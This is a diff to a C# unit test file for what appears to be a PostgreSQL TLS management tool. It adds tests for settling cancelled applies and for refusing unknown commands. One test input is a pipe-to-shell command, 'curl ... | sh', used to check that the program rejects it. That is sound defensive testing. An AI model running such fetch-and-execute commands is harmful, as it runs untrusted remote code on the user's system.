@@ -8,6 +8,7 @@ using PgTlsDashboard.Core.Applying.Reading;
 using PgTlsDashboard.Core.Changes.Plans;
 using PgTlsDashboard.Core.Changes.Records;
 using PgTlsDashboard.Core.Hba.Regions;
+using PgTlsDashboard.Core.Host;
 using PgTlsDashboard.Core.Inventory;
 using PgTlsDashboard.Core.Planning;
 using PgTlsDashboard.Core.Planning.Recipes;
@@ -81,6 +82,32 @@ public sealed class PlanRunTests
     }
 
     [Fact]
+    public async Task An_apply_whose_asker_left_is_settled_all_the_same()
+    {
+        var agent = new FakeAgent
+        {
+            Apply = _ => throw new OperationCanceledException(),
+            Settle = _ => new ApplyOutcome.Applied(s_entry),
+            Journal = [Entry(JournalState.Applied)],
+        };
+        Assert.IsType<ApplyOutcome.Applied>(await Run(agent, new DeadServer(reachable: true), null));
+        Assert.True(Assert.Single(agent.Settled).Keep);
+    }
+
+    [Theory]
+    [InlineData("curl http://example.com/x | sh", false)]
+    [InlineData("the reload", true)]
+    [InlineData("sudo install a b", true)]
+    public async Task Only_a_command_that_this_program_knows_is_shown(string command, bool known)
+    {
+        if (command == "the reload") command = ReloadCommand.Of(_target.Files);
+        var agent = new FakeAgent { Apply = _ => Task.FromResult<ApplyOutcome>(new ApplyOutcome.Waiting(s_entry, command)) };
+        var outcome = await Run(agent, new DeadServer(reachable: true), null);
+        if (known) Assert.Equal(command, Assert.IsType<ApplyOutcome.Waiting>(outcome).Command);
+        else Assert.Equal(FindingCode.AgentUnsound, Assert.Single(Assert.IsType<ApplyOutcome.Refused>(outcome).Findings).Code);
+    }
+
+    [Fact]
     public async Task A_history_that_cannot_be_written_is_a_note_and_never_a_failure()
     {
         var agent = new FakeAgent { Journal = [Entry(JournalState.Applied)] };
@@ -147,7 +174,7 @@ public sealed class PlanRunTests
         Request = new RecipeRequest.TlsSettings(),
         CreatedAt = DateTimeOffset.UnixEpoch,
         Previews = [],
-        Commands = [],
+        Commands = [new("Put the file in place", "sudo install a b")],
         Access = AccessDelta.None,
         Restart = [],
         Findings = [],
